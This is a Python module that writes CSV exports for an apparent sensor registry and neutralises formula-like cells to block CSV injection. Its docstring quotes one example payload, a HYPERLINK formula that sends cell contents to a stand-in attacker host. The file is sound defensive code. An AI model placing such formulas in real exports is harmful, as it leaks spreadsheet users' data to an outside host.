"""CSV cells a spreadsheet cannot run (OWASP's CSV-injection rule), for every CSV the registry writes.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil.example/?x="&A1)``
in a sensor name would run in the DPO's spreadsheet. Such a cell is prefixed with an
apostrophe, which spreadsheets show as text and never evaluate. Numbers stay numbers
(``-0.55`` as a longitude is a float, not text, and is written unchanged).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LIST_SEPARATOR = " | "
"""Between the items of a list inside one cell."""


def safe_cell(value: object) -> object:
    """*value* as a CSV writer should get it: lists joined, formula-like text neutralised."""
    if isinstance(value, (list, tuple)):
        value = LIST_SEPARATOR.join(str(item) for item in value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_chunks(columns: tuple[str, ...], records: Iterable[dict[str, Any]], batch: int = 200) -> Iterator[bytes]:
    """UTF-8 CSV with a byte-order mark (spreadsheets then show accents right), *batch* records per chunk."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, extrasaction="ignore", lineterminator="\r\n")
    buffer.write("\ufeff")
    writer.writeheader()
    for index, record in enumerate(records, 1):
        writer.writerow({key: safe_cell(value) for key, value in record.items()})
        if index % batch == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")
